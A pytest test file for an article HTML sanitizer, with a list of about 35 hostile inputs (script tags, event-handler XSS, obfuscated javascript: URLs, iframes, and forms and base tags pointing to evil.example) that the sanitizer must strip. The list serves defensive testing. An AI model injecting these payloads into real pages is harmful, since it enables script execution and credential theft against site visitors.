import pytest

from articles.sanitize import ARTICLE_PROTOCOLS, ARTICLE_TAGS, clean_article_body
from tests.html import elements

ALLOWED_ATTRIBUTES = {
    "a": {"href", "title"},
    "abbr": {"title"},
    "blockquote": {"cite"},
    "q": {"cite"},
    "ol": {"start"},
    "img": {"src", "alt", "title", "width", "height"},
}
URL_ATTRIBUTES = {"href", "src", "cite"}

# What an editor might paste from another site or a word processor, and what an
# attacker with a stolen editor login would try.
HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    '<img src="x" onerror="alert(1)">',
    '<img src="https://example.org/a.png" onload="alert(1)">',
    '<img src="javascript:alert(1)">',
    '<img src="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=">',
    '<img src="//evil.example/pixel.gif">',
    '<a href="javascript:alert(1)">click</a>',
    '<a href="JaVaScRiPt:alert(1)">click</a>',
    '<a href="&#106;avascript:alert(1)">click</a>',
    '<a href=" javascript:alert(1)">click</a>',
    '<a href="vbscript:msgbox(1)">click</a>',
    '<a href="data:text/html,<script>alert(1)</script>">click</a>',
    '<a href="https://example.org" onmouseover="alert(1)">hover</a>',
    '<a href="https://example.org" style="position:fixed;inset:0">cover</a>',
    "<iframe src=https://evil.example></iframe>",
    '<object data="https://evil.example/x.swf"></object>',
    '<embed src="https://evil.example/x.swf">',
    "<svg><script>alert(1)</script></svg>",
    "<svg onload=alert(1)>",
    "<math><mtext><script>alert(1)</script></mtext></math>",
    "<style>body{display:none}</style>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<form action="https://evil.example"><input name=password></form>',
    '<base href="https://evil.example/">',
    "<p>unclosed <b>bold <i>italic",
    '<p title="x" onclick="alert(1)">para</p>',
    '<h2 class="x" id="main">heading</h2>',
    "<!-- <script>alert(1)</script> -->",
    '<img src=x onerror=alert(1)//">',
    '<a href="https://example.org/" target="_blank">new tab</a>',
    '"><script>alert(1)</script>',
    "<template><script>alert(1)</script></template>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
]


def _check_only_allowlisted(html: str) -> None:
    for tag, attrs in elements(html):
        assert tag in ARTICLE_TAGS, (tag, html)
        assert set(attrs) <= ALLOWED_ATTRIBUTES.get(tag, set()), (tag, attrs, html)
        for name in URL_ATTRIBUTES & set(attrs):
            value = attrs[name] or ""
            scheme = value.split(":", 1)[0].lower() if ":" in value else ""
            assert scheme == "" or scheme in ARTICLE_PROTOCOLS, (name, value, html)


@pytest.mark.parametrize("hostile", HOSTILE)
def test_hostile_input_leaves_only_allowlisted_markup(hostile):
    cleaned = clean_article_body(hostile)

    _check_only_allowlisted(cleaned)
    assert "javascript:" not in cleaned.lower()
    assert "<script" not in cleaned.lower()


def test_editorial_markup_survives():
    body = (
        '<h2>Heading</h2><p>Text with <a href="https://example.org/" title="t">a link</a>, '
        "<em>emphasis</em> and <strong>weight</strong>.</p>"
        '<blockquote cite="https://example.org/q"><p>Quoted.</p></blockquote>'
        '<ul><li>one</li></ul><ol start="3"><li>three</li></ol>'
        '<figure><img src="https://example.org/a.jpg" alt="A photo" width="640">'
        "<figcaption>Caption</figcaption></figure>"
    )

    assert clean_article_body(body) == body


@pytest.mark.parametrize(
    "src",
    ["http://example.org/a.png", "https://example.org/a.png"],
)
def test_images_keep_web_sources(src):
    assert clean_article_body(f'<img src="{src}" alt="">') == f'<img src="{src}" alt="">'


@pytest.mark.parametrize(
    "src", ["data:image/png;base64,AAAA", "/media/a.png", "//evil.example/a.png", "ftp://x/a"]
)
def test_images_lose_other_sources(src):
    assert clean_article_body(f'<img src="{src}" alt="">') == '<img alt="">'


def test_cleaning_twice_changes_nothing():
    for hostile in HOSTILE:
        once = clean_article_body(hostile)
        assert clean_article_body(once) == once
